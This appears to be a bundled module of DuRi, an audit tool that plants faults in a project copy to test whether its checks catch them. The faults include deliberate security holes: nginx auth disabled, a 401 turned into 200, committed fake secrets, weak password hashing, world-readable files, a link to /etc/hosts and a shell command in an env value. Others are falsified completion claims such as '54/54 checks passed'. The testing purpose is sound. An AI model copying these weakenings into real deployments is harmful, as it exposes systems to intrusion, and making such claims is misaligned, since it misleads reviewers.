export const id = 4943;
export const ids = [4943];
export const modules = {

/***/ 67931:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  "default": () => (/* binding */ audit_mutate)
});

// EXTERNAL MODULE: ./build/src/gates/audit/ground.js + 2 modules
var ground = __webpack_require__(38140);
// EXTERNAL MODULE: ./build/src/gates/audit/load-suite.js + 111 modules
var load_suite = __webpack_require__(30959);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./node_modules/picomatch/index.js
var picomatch = __webpack_require__(14006);
// EXTERNAL MODULE: ./build/src/model/errors.js
var errors = __webpack_require__(74132);
// EXTERNAL MODULE: ./build/src/model/limits.js
var limits = __webpack_require__(44831);
// EXTERNAL MODULE: ./build/src/model/path.js
var model_path = __webpack_require__(80916);
// EXTERNAL MODULE: ./build/src/policy/inside.js
var inside = __webpack_require__(14858);
;// CONCATENATED MODULE: ./build/src/gates/audit/mutate.js






/** Which checks noticed a fault: those that were green on the copy without it. Checks that did not run again noticed nothing. */
function judgeMutation({ id, says }, applied, { before, after }) {
    const good = new Set(before.filter(isGood).map((run) => run.id));
    const noticedBy = after.filter((run) => good.has(run.id) && !isGood(run)).map((run) => run.id);
    return { id, says, outcome: !applied ? 'inapplicable' : noticedBy.length > 0 ? 'noticed' : 'missed', noticedBy: applied ? noticedBy : [] };
}
/** Checks that noticed nothing in the whole run. */
function toothless(checks, results) {
    const sharp = new Set(results.flatMap(({ noticedBy }) => noticedBy));
    return checks.filter((id) => !sharp.has(id));
}
function isGood({ observations }) {
    return observations.length > 0 && observations.every(({ outcome }) => outcome === 'pass');
}
/** A folder as a fault may change it; what it changes is remembered, and put back by `restore`. */
function openCopy({ files, hostFiles }, root, variables) {
    const at = (path) => {
        if (isWithin({ files, hostFiles }, root, path))
            return (0,external_node_path_.join)(root, path);
        throw new errors/* IntegrityError */.cs('input_invalid', `${(0,model_path/* printable */.g$)(path)} is reached through a link, so a fault could change more than the copy`, { path }, { hint: 'Name the file itself in `vars` of duri.yml.' });
    };
    const memory = remembering({ files, hostFiles }, at);
    return {
        read: (path) => {
            if (!isWithin({ files, hostFiles }, root, path) || hostFiles.look(at(path))?.kind !== 'file')
                return undefined;
            const content = files.read(at(path), limits/* LIMITS */.b.evidenceFileBytes);
            return content === undefined ? undefined : Buffer.from(content).toString('utf8');
        },
        write: (path, text) => {
            memory.remember(path, false);
            const mode = hostFiles.look(at(path))?.mode;
            files.write(at(path), text);
            if (mode !== undefined)
                hostFiles.setMode(at(path), mode);
        },
        remove: (path) => {
            memory.remember(path, true);
            files.remove(at(path));
        },
        setMode: (path, mode) => {
            memory.remember(path, false);
            hostFiles.setMode(at(path), mode);
        },
        link: (path, target) => {
            memory.remember(path, true);
            files.remove(at(path));
            hostFiles.makeFolder((0,external_node_path_.dirname)(at(path)));
            hostFiles.link(at(path), target);
        },
        glob: (patterns) => {
            const matches = picomatch([...patterns], { dot: true });
            const entries = hostFiles.list(root, { maxEntries: 200_000, skip: ['.git', 'node_modules'] });
            return entries.flatMap(({ path, kind }) => (kind === 'file' && matches(path) ? [path] : []));
        },
        variable: (name) => variables.values.get(name),
        restore: memory.restore,
        changed: memory.changed,
    };
}
/** Is it of the copy? A folder that is a link may lead out of it, and a file that is one is written through: neither is ever touched. */
function isWithin({ files, hostFiles }, root, path) {
    const whole = (0,external_node_path_.join)(root, path);
    const folder = files.resolve((0,external_node_path_.dirname)(whole));
    return (folder === undefined || (0,inside/* isInside */.F)(folder, files.resolve(root) ?? root)) && hostFiles.look(whole)?.kind !== 'link';
}
function remembering({ files, hostFiles }, at) {
    const undo = [];
    const paths = new Set();
    const seen = { names: false };
    return {
        remember: (path, names) => {
            const whole = at(path);
            const facts = hostFiles.look(whole);
            const content = facts?.kind === 'file' ? files.read(whole, limits/* LIMITS */.b.evidenceFileBytes) : undefined;
            paths.add(external_node_path_.posix.normalize(path));
            seen.names ||= names || facts === undefined;
            undo.push(() => {
                files.remove(whole);
                if (content === undefined)
                    return;
                files.write(whole, content);
                hostFiles.setMode(whole, facts?.mode ?? 0o644);
            });
        },
        restore: () => {
            paths.clear();
            seen.names = false;
            for (const step of undo.splice(0).reverse())
                step();
        },
        changed: () => ({ paths: new Set(paths), names: seen.names }),
    };
}
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/edit.js
/** The path that a variable of the preset names; undefined where it names none. */
function pathOf(copy, variable) {
    const value = copy.variable(variable);
    return typeof value === 'string' ? value : undefined;
}
/** Files that the globs of a variable match. */
function filesOf(copy, variable) {
    const value = copy.variable(variable);
    return typeof value === 'object' ? copy.glob(value) : [];
}
/** Changes a file; false, with nothing changed, where there is none or no place for the fault. */
function edit(copy, path, change) {
    const text = path === undefined ? undefined : copy.read(path);
    const changed = text === undefined ? undefined : change(text);
    if (path === undefined || changed === undefined || changed === text)
        return false;
    copy.write(path, changed);
    return true;
}
/** A fault in the file that a variable of the preset names. */
function inFile(variable, { id, says, change }) {
    return { id, says, apply: (copy) => edit(copy, pathOf(copy, variable), change) };
}
/** Faults in the file that a variable names, each an edit of its text. */
function faultsIn(family, variable, faults) {
    return faults.map(([id, says, change]) => inFile(variable, { id: `${family}/${id}`, says, change }));
}
/** Takes away the file that is found, if there is one. */
function removes(id, says, find) {
    return {
        id,
        says,
        apply: (copy) => {
            const path = find(copy);
            if (path === undefined || copy.read(path) === undefined)
                return false;
            copy.remove(path);
            return true;
        },
    };
}
/** Puts a new file in, under a name that is not taken. */
function adds(id, says, path, text) {
    return {
        id,
        says,
        apply: (copy) => {
            if (copy.read(path) !== undefined)
                return false;
            copy.write(path, text);
            return true;
        },
    };
}
/** Replaces what a pattern of ours finds first. */
const replace = (pattern, by) => (text) => text.replace(pattern, by);
/** Gives a shell or Python function another body; undefined where there is none. */
function withBody(name, body) {
    return (text) => {
        const match = new RegExp(`^${name}\\(\\) \\{\\n[\\s\\S]*?^\\}$`, 'm').exec(text);
        return match === null ? undefined : text.slice(0, match.index) + `${name}() {\n  ${body}\n}` + text.slice(match.index + match[0].length);
    };
}
/** Puts lines in at the beginning of a shell function. */
function atStartOf(name, line) {
    return replace(new RegExp(`^(${name}\\(\\) \\{\\n)`, 'm'), `$1  ${line.replaceAll('$', '$$$$')}\n`);
}
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/code.js

const fault = (name, says, change) => inFile('notifier_file', { id: `code/${name}`, says, change });
/** A fault in the first file of the earlier tasks' tests that has a place for it. */
const inTests = (name, says, change) => ({
    id: `code/${name}`,
    says,
    apply: (copy) => copy.glob(['tests/test_task_*.py']).some((path) => edit(copy, path, change)),
});
/** Faults in programs and their tests. */
const codeMutations = [
    fault('class-renamed', 'renamed the notifier', replace(/^class DingTalkNotifier\b/m, 'class DingtalkNotifier')),
    fault('class-commented', 'left the notifier in a comment only', (text) => text.replace(/^class DingTalkNotifier\b/m, '# class DingTalkNotifier:\nclass Notifier')),
    fault('parameter-removed', 'took a parameter from an alert', replace(/(def send_risk_alert\(self, metric: str), value: float/, '$1')),
    fault('parameter-order', 'changed the order of parameters', replace(/(def send_kill_switch_alert\(self, )action: str, reason: str/, '$1reason: str, action: str')),
    fault('function-removed', 'renamed a function that others call', replace(/def send_kill_switch_alert\b/, 'def send_killswitch_alert')),
    fault('function-stub', 'left nothing of a function but its head', replace(/(def send_risk_alert\([^)]*\)[^:\n]*:)\n(?: {8}[^\n]*\n|\n(?= {8}))+/, '$1\n        return None\n\n')),
    inTests('test-removed', 'removed a test', replace(/^ +(?:async )?def test_\w+\([^)]*\)[^:]*:\n(?:(?: {8}[^\n]*)?\n)+/m, '')),
    inTests('test-renamed', 'renamed a test so that it no longer runs', replace(/def test_/, 'def check_')),
    inTests('test-skipped', 'skipped a test', replace(/^( +)def test_/m, '$1@unittest.skip("flaky")\n$1def test_')),
    inTests('test-emptied', 'took what a test asserts out', replace(/^( +def test_\w+\([^)]*\)[^:]*:\n)(?:(?: {8}[^\n]*)?\n)+/m, '$1        pass\n\n')),
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/docs.js

/** The report is held against facts by a check of its own. */
const documentsOf = (copy) => filesOf(copy, 'documents').filter((path) => path !== pathOf(copy, 'completion_report'));
/** A fault in the first file that has a place for it. */
const firstOf = (files) => (id, says, change) => ({ id: `docs/${id}`, says, apply: (copy) => files(copy).some((path) => edit(copy, path, change)) });
const inRunbook = firstOf((copy) => filesOf(copy, 'runbooks'));
const inDocument = firstOf(documentsOf);
/** Takes a heading with its text out, or only its text. */
const section = (name, replace) => (text) => text.replace(new RegExp(`^(#{2,4} [^\\n]*${name}[^\\n]*\\n)[\\s\\S]*?(?=^#{1,4} |$(?![\\s\\S]))`, 'im'), (_, heading) => replace(heading));
/** Faults of documents: of what they claim, and of what they tell their readers to do. */
const documentMutations = [
    ...faultsIn('docs', 'completion_report', [
        [
            'wrong-number',
            'wrote a wrong number into the report',
            (text) => text.replace(/(<!-- fact:[a-z._]+ -->)(\d+)(?=<)/, (_, mark, number) => `${mark}${Number(number) + 1}`),
        ],
        ['more-checks', 'claimed more checks than there are', (text) => text.replace(/(<!-- fact:checks\.selected -->)[^<]*/, '$155')],
        ['tick', 'ticked something off that nobody has checked', (text) => `${text}\n- ✅ Security reviewed\n`],
        ['ratio', 'claimed a result that no run has', (text) => `${text}\nGate 1: 54/54 checks passed.\n`],
        ['percent', 'claimed 100 %', (text) => text.replace(/^(# [^\n]*)$/m, '$1 (100% complete)')],
        ['stars', 'rated its own work', (text) => `${text}\nConfidence: ⭐⭐⭐⭐⭐\n`],
        ['complete', 'called it complete in a table', (text) => `${text}\n| Part | State |\n|---|---|\n| Tests | complete |\n`],
        ['lines', 'claimed a number of lines', (text) => `${text}\nThe change has 3,896 lines.\n`],
        ['fact-unmarked', 'took the mark off a number', (text) => text.replace(/<!-- fact:checks\.selected -->([^<]*)<!-- \/fact -->/, '$1')],
        ['fact-unknown', 'named a fact that there is none of', (text) => text.replace('fact:checks.selected', 'fact:checks.passed')],
        ['fact-open', 'left a mark open', (text) => text.replace('<!-- /fact -->', '')],
    ]),
    inDocument('todo', 'left a TODO in a document', (text) => `${text}\nTODO: describe the rest.\n`),
    inDocument('to-be-created', 'called a document to be created', (text) => `${text}\nThe migration guide is to be created.\n`),
    inDocument('not-yet-in-chinese', 'left 待创建 in a document', (text) => `${text}\n- MIGRATION.md (待创建)\n`),
    inDocument('cut-short', 'cut a document down to its title', (text) => `${text.split('\n', 1)[0] ?? ''}\n`),
    removes('docs/removed', 'removed a document that has to be there', (copy) => documentsOf(copy)[0]),
    inDocument('link-broken', 'linked to a file that is not there', (text) => `${text}\nSee [the annex](annex-that-is-gone.md).\n`),
    inDocument('anchor-broken', 'linked to a heading that is not there', (text) => `${text}\nSee [above](#a-heading-that-is-gone).\n`),
    inDocument('link-out', 'linked to a file outside the tree', (text) => `${text}\nSee [the notes](../../notes.md).\n`),
    inDocument('image-missing', 'showed an image that is not there', (text) => `${text}\n![Overview](overview-that-is-gone.png)\n`),
    inDocument('script-missing', 'told to run a script that is not there', (text) => `${text}\n\`\`\`bash\nsudo bash deploy_everything.sh\n\`\`\`\n`),
    inDocument('program-misspelt', 'misspelt a program in a command', (text) => `${text}\n\`\`\`bash\nsudo systemclt reload nginx\n\`\`\`\n`),
    inDocument('verb-unknown', 'told to run a verb that DuRi does not have', (text) => `${text}\n\`\`\`bash\nduri audti\n\`\`\`\n`),
    inDocument('duri-flag-unknown', 'gave DuRi a flag that it does not have', (text) => `${text}\n\`\`\`bash\nduri audit --skip-all\n\`\`\`\n`),
    inDocument('shell-broken', 'left a command block that no shell can read', (text) => `${text}\n\`\`\`bash\nif [ -f x ]; then echo "\n\`\`\`\n`),
    {
        id: 'docs/script-flag-unknown',
        says: 'gave the deploy script a flag that it does not have',
        apply: (copy) => {
            const script = pathOf(copy, 'deploy_script');
            return script !== undefined && edit(copy, documentsOf(copy)[0], (text) => `${text}\n\`\`\`bash\nbash ${script} --skip-the-tests\n\`\`\`\n`);
        },
    },
    inRunbook('section-removed', 'took a section out of a runbook', section('contain', () => '')),
    inRunbook('section-emptied', 'emptied a section of a runbook', section('recover', (heading) => `${heading}\n`)),
    inRunbook('section-stub', 'left a stub in place of a section of a runbook', section('rotate', (heading) => `${heading}\nAsk around.\n\n`)),
    inRunbook('owner-emptied', 'emptied the owner of a runbook', section('owner', (heading) => `${heading}\n-\n\n`)),
    inRunbook('owner-nobody', 'left a runbook to nobody in particular', section('owner', (heading) => `${heading}\nTBD\n\n`)),
    inRunbook('time-removed', 'took the target time out of a runbook', section('target time', () => '')),
    inRunbook('time-vague', 'made the target time of a runbook vague', section('target time', (heading) => `${heading}\nAs soon as possible.\n\n`)),
    removes('docs/runbook-removed', 'removed a runbook', (copy) => filesOf(copy, 'runbooks')[0]),
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/environment.js

const PLAIN = /^([A-Z][A-Z0-9_]*)=([^\n]*)\n/m;
/** The first variable whose key and value fit, with another value. */
const value = (key, to, from = '[^\\n]*') => (text) => text.replace(new RegExp(`^(${key}=)${from}$`, 'm'), (_, before) => before + to);
/** Faults of the environment's template and of what reads it. */
const environmentMutations = [
    ...faultsIn('env', 'env_example', [
        ['key-removed', 'removed a variable', (text) => text.replace(/^[A-Z]+_[A-Z0-9_]*_TIMEOUT=[^\n]*\n/m, '')],
        ['first-key-removed', 'removed the first variable', (text) => text.replace(PLAIN, '')],
        ['key-commented', 'commented a variable out', (text) => text.replace(/^(?=[A-Z]+_[A-Z0-9_]*=[^\n]*$)/m, '# ')],
        ['key-added', 'added a variable that nobody knows', (text) => `${text}LEGACY_MODE=on\n`],
        ['key-misspelt', 'misspelt a variable', (text) => text.replace(/^([A-Z]+_)([A-Z])([A-Z])([A-Z0-9_]*=)/m, '$1$3$2$4')],
        ['key-in-small-letters', 'wrote a variable in small letters', (text) => text.replace(/^[A-Z]+_[A-Z0-9_]+(?==)/m, (key) => key.toLowerCase())],
        ['key-twice', 'set a variable twice', (text) => `${text}${PLAIN.exec(text)?.[0] ?? ''}`],
        ['secret', 'committed what looks like a real secret', value('[A-Z_]*_(?:SECRET|TOKEN|PASSWORD)', 'SEC4f1d0c7a9be25d36418', 'CHANGE_ME')],
        [
            'webhook',
            'committed a webhook with its token',
            value('[A-Z_]*WEBHOOK[A-Z_]*', 'https://oapi.dingtalk.com/robot/send?access_token=4f1d0c7a9be25d36418', 'CHANGE_ME'),
        ],
        ['default-password', 'committed a password that everybody guesses', value('[A-Z_]*_PASSWORD', 'changeme')],
        ['url-password', 'committed a password in a URL', value('[A-Z_]*_URL', 'https://operator:hunter2@dashboard.example.com', 'https?://[^\\n]*')],
        ['debug', 'switched debugging on', value('DEBUG', 'true')],
        ['dev', 'made it a development environment', value('ENV', 'dev')],
        ['integrity-warn', 'let changed files run on', value('INTEGRITY_MODE', 'warn')],
        ['integrity-off', 'switched the integrity check off', value('INTEGRITY_MODE', 'off')],
        ['port-too-high', 'wrote a port that there is none of', value('[A-Z_]*_PORT', '85010', '\\d+')],
        ['port-zero', 'wrote port 0', value('[A-Z_]*_PORT', '0', '\\d+')],
        [
            'port-other',
            'changed the port of the service, and not in nginx',
            (text) => text.replace(/^(DASHBOARD_PORT|APP_PORT|PORT)=(\d+)$/m, (_, key, port) => `${key}=${Number(port) + 1}`),
        ],
        ['no-number', 'wrote a word in place of a number', value('[A-Z_]*_(?:PORT|MAX_[A-Z_]+|DAYS)', 'many', '\\d+')],
        ['no-switch', 'wrote yes in place of true', value('[A-Z_]*_ENABLED', 'yes', '(?:true|false)')],
        ['no-duration', 'wrote a time that is none', value('[A-Z_]*_TIMEOUT', 'soon')],
        ['share-too-large', 'wrote a share in per cent', value('[A-Z_]*_(?:THRESHOLD|RATIO)', '30', '0\\.\\d+')],
        ['no-url', 'wrote a URL without its scheme', value('[A-Z_]*_URL', 'dashboard.example.com', 'https?://[^\\n]*')],
        ['number-emptied', 'emptied a number', value('[A-Z_]*_PORT', '', '\\d+')],
        ['byte-order-mark', 'saved the file with a byte order mark', (text) => `\uFEFF${text}`],
        ['crlf', 'saved the file with CR LF line ends', (text) => text.replace(/\n/g, '\r\n')],
        ['space', 'wrote a value with a space and without quotes', value('[A-Z_]*_(?:TIMEOUT|INTERVAL)', '5 seconds')],
        ['space-around', 'wrote spaces around =', (text) => text.replace(/^([A-Z]+_[A-Z0-9_]*)=([^\n]+)$/m, '$1 = $2')],
        ['export', 'wrote export before a variable', (text) => text.replace(/^(?=[A-Z]+_[A-Z0-9_]*=)/m, 'export ')],
        ['open-quote', 'left a quote open', (text) => text.replace(/^([A-Z]+_[A-Z0-9_]*=)([^"'\n]+)$/m, '$1"$2')],
        ['command', 'wrote a command into a value', value('[A-Z]+_[A-Z_]*_DIR', '"$(pwd)/state"')],
        ['line-of-prose', 'wrote a line that is neither comment nor variable', (text) => text.replace(PLAIN, (line) => `${line}see the wiki for the rest\n`)],
    ]),
    {
        id: 'env/schema-key-removed',
        says: 'took a variable out of the schema alone',
        apply: (copy) => edit(copy, pathOf(copy, 'env_schema'), (text) => {
            const schema = JSON.parse(text);
            const [key] = Object.keys(schema.properties ?? {}).slice(-1);
            if (key === undefined)
                return text;
            const properties = Object.fromEntries(Object.entries(schema.properties ?? {}).filter(([name]) => name !== key));
            return JSON.stringify({ ...schema, properties, required: schema.required?.filter((name) => name !== key) }, null, 2);
        }),
    },
    {
        id: 'env/undeclared',
        says: 'read a variable in a program that nobody declares',
        apply: (copy) => edit(copy, filesOf(copy, 'env_readers').find((path) => path.endsWith('.py')), (text) => `${text}\nimport os\n\nLEGACY = os.environ["LEGACY_ENDPOINT"]\n`),
    },
    {
        id: 'env/undeclared-in-script',
        says: 'read a variable in the deploy script that nobody declares',
        apply: (copy) => edit(copy, pathOf(copy, 'deploy_script'), (text) => `${text}echo "deployed to $DEPLOY_REGION_NAME"\n`),
    },
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/files.js

/** No key: what a careless hand leaves behind has only its first line. */
const KEY_TEXT = `-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\n`;
const files_link = (path, target) => (copy) => {
    if (copy.read(path) !== undefined)
        return false;
    copy.link(path, target);
    return true;
};
/** Does something to the first file that the globs of a variable match and that fits. */
const first = (variable, fits, act) => (copy) => {
    const path = filesOf(copy, variable).find((one) => fits.test(one));
    if (path === undefined)
        return false;
    act(copy, path);
    return true;
};
/** Faults of files and of what is among them. */
const fileMutations = [
    removes('files/config-removed', 'removed the nginx configuration', (copy) => pathOf(copy, 'nginx_conf')),
    { id: 'files/program-emptied', says: 'emptied a program that is deployed', apply: first('deliverables', /\.py$/, (copy, path) => copy.write(path, '')) },
    {
        id: 'files/unit-emptied',
        says: 'emptied the unit that runs the service',
        apply: first('deliverables', /\.service$/, (copy, path) => copy.write(path, '')),
    },
    {
        id: 'files/config-is-a-link',
        says: 'put a link in place of a deployed file',
        apply: first('deliverables', /\.(?:conf|service)$/, (copy, path) => {
            const text = copy.read(path) ?? '';
            copy.write(`${path}.real`, text);
            copy.remove(path);
            copy.link(path, `${path.slice(path.lastIndexOf('/') + 1)}.real`);
        }),
    },
    ...faultsIn('files', 'deploy_script', [
        ['script-crlf', 'saved the deploy script with CR LF line ends', (text) => text.replace(/\n/g, '\r\n')],
        ['script-one-crlf', 'left one CR LF line end in the deploy script', (text) => text.replace(/\n(?=[^\n]*\n[^\n]*\n[^\n]*$)/, '\r\n')],
        ['script-for-sh', 'let the deploy script run in sh', (text) => text.replace(/^#![^\n]*/, '#!/bin/sh')],
        ['script-cut-short', 'cut the line end off the deploy script', (text) => text.trimEnd()],
        [
            'env-for-all',
            'let the deploy script install the environment file for everyone to read',
            (text) => text.replace(/(\binstall\b[^\n]*-m +)0?600\b/g, '$1644').replace(/\bchmod +0?600\b/g, 'chmod 644'),
        ],
    ]),
    {
        id: 'files/script-not-executable',
        says: 'took the executable bit of the deploy script away',
        apply: (copy) => {
            const path = pathOf(copy, 'deploy_script');
            if (path === undefined || copy.read(path) === undefined)
                return false;
            copy.setMode(path, 0o644);
            return true;
        },
    },
    adds('files/backup', 'left a backup of a configuration in the tree', 'site.conf.bak', 'server { listen 80; }\n'),
    adds('files/editor-leftover', 'left the swap file of an editor in the tree', '.site.conf.swp', 'b0VIM\n'),
    adds('files/pem', 'dropped a key into the tree', 'certs/dashboard.pem', KEY_TEXT),
    adds('files/ssh-key', 'dropped an SSH key into the tree', 'id_ed25519', KEY_TEXT),
    adds('files/dot-env', 'committed an environment file under its short name', '.env', 'DEBUG=true\n'),
    adds('files/htpasswd', 'committed the password file of nginx', 'nginx/.htpasswd', 'operator:$2y$10$abcdefghijklmnopqrstuv\n'),
    adds('files/deep', 'hid a file deep in the tree', 'a/b/c/d/e/f/g/h/i/j/k/l/m/x.txt', 'x\n'),
    { id: 'files/link-out', says: 'added a link that leads out of the tree', apply: files_link('shared', '../../outside') },
    { id: 'files/link-absolute', says: 'added a link to a file of the host', apply: files_link('hosts', '/etc/hosts') },
    { id: 'files/link-loop', says: 'added a link to the folder that holds it', apply: files_link('loop', '.') },
    { id: 'files/link-dead', says: 'added a link to nothing', apply: files_link('dead', 'nowhere-at-all') },
    ...faultsIn('files', 'systemd_unit', [
        ['unit-as-root', 'ran the service as root', (text) => text.replace(/^User=.*$/m, 'User=root')],
        ['unit-other-settings', 'ran the service with other settings', (text) => text.replace(/^(EnvironmentFile=.*?)(\S+)$/m, '$1$2.staging')],
    ]),
    ...faultsIn('files', 'nginx_conf', [
        [
            'other-port',
            'passed requests on to another port',
            (text) => text.replace(/^(\s*server\s+127\.0\.0\.1:)(\d+)/m, (_, before, port) => `${before}${Number(port) + 1}`),
        ],
    ]),
    ...faultsIn('files', 'signer_file', [
        ['signer-sha1', 'signed messages with SHA-1', (text) => text.replace(/\bsha256\b(?=\)|,|")/g, 'sha1')],
        ['signer-hex', 'sent the signature in hexadecimal digits', (text) => text.replace(/base64\.b64encode\((\w+)\)\.decode\(\)/, '$1.hex()')],
        ['signer-no-hmac', 'hashed messages without the key', (text) => text.replace(/hmac\.new\([^,]+,\s*(.+?),\s*hashlib\.sha256\)/, 'hashlib.sha256($1)')],
    ]),
    {
        id: 'files/signer-renamed',
        says: 'renamed the function that signs messages',
        apply: (copy) => {
            const name = pathOf(copy, 'signer_function');
            return name !== undefined && edit(copy, pathOf(copy, 'signer_file'), (text) => text.replace(new RegExp(`\\bdef ${name}\\b`), 'def make_it'));
        },
    },
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/htpasswd.js

/** A fault in how the deploy script makes the htpasswd file: an edit of every line that runs htpasswd, or of what follows it. */
const htpasswd_fault = (id, says, change) => inFile('deploy_script', { id: `htpasswd/${id}`, says, change });
/** The arguments of each htpasswd that writes: `-v` only asks, and `command -v` only looks for it. */
const options = (change) => (text) => text.replace(/^(?!\s*#)(.*(?<!-v )\bhtpasswd(?= +-)(?! +-v))( +-[^\n]*)$/gm, (_, before, args) => before + change(args));
/** The statements after htpasswd in the same function. */
const afterwards = (change) => (text) => text.replace(/(\n[^#\n]*\bhtpasswd +-[^v][\s\S]*?\n\}\n)/, (body) => change(body));
/** Faults of the htpasswd file, put in where it is made. */
const htpasswdMutations = [
    htpasswd_fault('default-algorithm', 'hashed passwords with MD5', options((args) => args
        .replace(/ -B\b/, '')
        .replace(/ (-\w*)B/, ' $1')
        .replace(/ -C +\S+/, ''))),
    htpasswd_fault('sha1', 'hashed passwords with SHA-1', options((args) => args
        .replace(/ -B\b/, ' -s')
        .replace(/ (-\w*)B/, ' $1s')
        .replace(/ -C +\S+/, ''))),
    htpasswd_fault('plain', 'kept passwords in plain text', options((args) => args
        .replace(/ -B\b/, ' -p')
        .replace(/ (-\w*)B/, ' $1p')
        .replace(/ -C +\S+/, ''))),
    htpasswd_fault('default-cost', 'left bcrypt at cost 5', options((args) => args.replace(/ -C +\S+/, ''))),
    htpasswd_fault('low-cost', 'hashed with cost 4', options((args) => args.replace(/ -C +\S+/, ' -C 4'))),
    htpasswd_fault('password-argument', 'gave the password as an argument', options((args) => args.replace(/ -i\b/, ' -b').replace(/ (-\w*)i/, ' $1b'))),
    htpasswd_fault('world-readable', 'let everybody read the hashes', afterwards((rest) => rest.replace(/\b0?640\b/g, '644'))),
    htpasswd_fault('private', 'let only root read the hashes, so that no worker can', afterwards((rest) => rest.replace(/\b0?640\b/g, '600'))),
    htpasswd_fault('wrong-group', 'gave the hashes to another group', afterwards((rest) => rest.replace(/root:["']?\$\{?\w+\}?/g, 'root:nogroup').replace(/root:www-data/g, 'root:nogroup'))),
    htpasswd_fault('not-made', 'no longer made the file', options((args) => ` -v${args}`)),
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/monitoring.js

const faultOf = (variable) => (name, says, change) => inFile(variable, { id: `monitoring/${name}`, says, change });
const rules = faultOf('alert_rules');
const routes = faultOf('alert_routes');
const ruleTests = faultOf('alert_tests');
/** Faults in alert rules, their tests, and who hears of them. */
const monitoringMutations = [
    rules('rule-syntax', 'broke an expression', replace(/^(\s+expr: )[^\n|>]/m, '$1((')),
    rules('rules-emptied', 'took every rule out', () => 'groups: []\n'),
    rules('rule-silent', 'let a rule never fire', replace(/^(\s+for: )\d+\w+$/m, '$1999h')),
    rules('severity', 'made a critical alert a warning', replace(/severity: critical/, 'severity: warning')),
    rules('alert-added', 'added an alert that nobody tested', (text) => text.replace(/^( +)- alert: /m, '$1- alert: NeverTested\n$1  expr: vector(0) > 1\n$1  labels: {severity: critical}\n$1- alert: ')),
    ruleTests('tests-emptied', 'took every test of the rules out', replace(/^tests:[\s\S]*/m, 'tests: []\n')),
    routes('critical-to-chat', 'sent critical alerts to the chat', replace(/severity = "critical"/, 'severity = "page"')),
    routes('receiver-silent', 'left a receiver without a channel', replace(/(- name: oncall-pager\n)(?: {4}[^\n]*\n)+/, '$1')),
    routes('matchers-deprecated', 'wrote a route with matchers of old', replace(/matchers:\n\s+- severity = "critical"/, 'match: {severity: critical}')),
    routes('receiver-unknown', 'routed to a receiver that is not there', replace(/receiver: oncall-pager/, 'receiver: oncall-pagr')),
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/nginx.js

/** A fault in the nginx configuration: an edit of its text, which has to change something. */
const nginx_fault = (id, says, change) => inFile('nginx_conf', { id: `nginx/${id}`, says, change });
/** Dollar signs stand for themselves here: nginx has variables of its own. */
const nginx_replace = (pattern, by) => (text) => typeof by === 'string' ? text.replace(pattern, () => by) : text.replace(pattern, (...groups) => by(...groups));
/** Puts lines at the beginning of a block that is proxied: the first, or the one whose head fits. */
const intoLocation = (lines, head = String.raw `(?![ \t]*(?:=|@|~))[^{\n]*`) => (text) => {
    const pattern = new RegExp(String.raw `(^[ \t]*location${head}\{)((?:[^{}]|\{[^{}]*\})*?\bproxy_pass\b)`, 'm');
    return text.replace(pattern, (_, open, rest) => `${open}\n        ${lines}\n${rest}`);
};
/** Puts lines where the server begins to ask for a password. */
const intoServer = (lines) => (text) => text.replace(/^([ \t]*)auth_basic[ \t]+"?[^o\s]/m, (match, indent) => `${indent}${lines}\n${match}`);
const SERVER = 'server {\n    listen 127.0.0.1:8089;\n    location / {\n        proxy_pass http://127.0.0.1:8501;\n    }\n}\n';
/** Faults of an nginx configuration; `nginx -t` is content with nearly all of them. */
const nginxMutations = [
    nginx_fault('auth-off', 'turned basic auth off in a proxied location', intoLocation('auth_basic off;')),
    nginx_fault('auth-removed', 'removed auth_basic from the server', nginx_replace(/^[ \t]*auth_basic[ \t]+(?!off).*;.*$/m, '')),
    nginx_fault('auth-server-off', 'turned basic auth off in the server', nginx_replace(/^([ \t]*)auth_basic[ \t]+(?!off).*;/m, (_, indent = '') => `${indent}auth_basic off;`)),
    nginx_fault('auth-by-variable', 'made the realm a variable that visitors set', nginx_replace(/^([ \t]*)auth_basic[ \t]+(?!off).*;/m, (_, indent = '') => `${indent}auth_basic $arg_realm;`)),
    nginx_fault('user-file-removed', 'removed auth_basic_user_file, so that nobody is asked', nginx_replace(/^[ \t]*auth_basic_user_file.*;.*$/m, '')),
    nginx_fault('user-file-missing', 'named an htpasswd file that nobody makes', nginx_replace(/(auth_basic_user_file[ \t]+)[^;]+;/, (_, name = '') => `${name}/etc/nginx/.htpasswd_gone;`)),
    nginx_fault('satisfy-any', 'let an address range in without password', intoServer('satisfy any; allow 10.0.0.0/8; deny all;')),
    nginx_fault('nested-open', 'added a nested location without password', intoLocation('location /open { auth_basic off; proxy_pass http://127.0.0.1:8501; }', String.raw `[ \t]+/[ \t]*`)),
    nginx_fault('limit-except-open', 'asked for no password for some methods', intoLocation('limit_except GET { auth_basic off; }')),
    nginx_fault('open-path-widened', 'made the open path a beginning instead of an exact path', nginx_replace(/location\s+=\s+(\/\S+)/, (_, path = '') => `location ${path}`)),
    nginx_fault('second-server', 'added a second server without password', (text) => `${text}\n${SERVER}`),
    nginx_fault('error-page-status', 'turned 401 into 200 by an error page', intoServer('error_page 401 =200 /;')),
    nginx_fault('header-dropped', 'removed a security header', nginx_replace(/^[ \t]*add_header[ \t]+X-Content-Type-Options.*;.*$/m, '')),
    nginx_fault('header-without-always', 'took always from a security header', nginx_replace(/(add_header[ \t]+X-Frame-Options[ \t]+\S+)[ \t]+always;/, (_, header = '') => `${header};`)),
    nginx_fault('header-in-location', 'added a header inside a location, which drops all the others there', intoLocation('add_header X-Extra 1 always;')),
    nginx_fault('header-in-if', 'added a header inside an if', intoLocation('if ($request_method = POST) { add_header X-Extra 1 always; }')),
